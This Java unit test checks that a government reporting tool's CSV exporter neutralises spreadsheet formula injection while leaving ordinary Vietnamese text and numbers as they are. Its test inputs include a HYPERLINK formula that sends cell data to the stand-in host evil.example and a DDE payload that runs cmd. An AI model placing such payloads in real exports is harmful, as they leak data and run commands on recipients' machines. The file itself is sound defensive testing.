package vn.gov.directive.reporting.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;

import org.junit.jupiter.api.Test;

class CsvExportTest {

    @Test
    void aTextCellThatASpreadsheetWouldReadAsAFormulaIsNeutralisedAndQuoted() {
        assertThat(CsvExport.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\"");
        assertThat(CsvExport.cell("+1+cmd|' /C calc'!A0")).isEqualTo("\"'+1+cmd|' /C calc'!A0\"");
        assertThat(CsvExport.cell("-2+3")).isEqualTo("\"'-2+3\"");
        assertThat(CsvExport.cell("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
        assertThat(CsvExport.cell("\t=1")).isEqualTo("\"'\t=1\"");
        assertThat(CsvExport.cell("\r=1")).isEqualTo("\"'\r=1\"");
    }

    @Test
    void ordinaryTextAndNumbersStayAsTheyAre() {
        assertThat(CsvExport.cell("V/v tuyên truyền")).isEqualTo("V/v tuyên truyền");
        assertThat(CsvExport.cell("Hạ Long, Quảng Ninh")).isEqualTo("\"Hạ Long, Quảng Ninh\"");
        assertThat(CsvExport.cell("a=b")).isEqualTo("a=b");
        assertThat(CsvExport.cell(new BigDecimal("-5.5"))).as("a negative number is a number, not a formula").isEqualTo("-5.5");
        assertThat(CsvExport.cell(-3L)).isEqualTo("-3");
        assertThat(CsvExport.cell("")).isEmpty();
    }
}
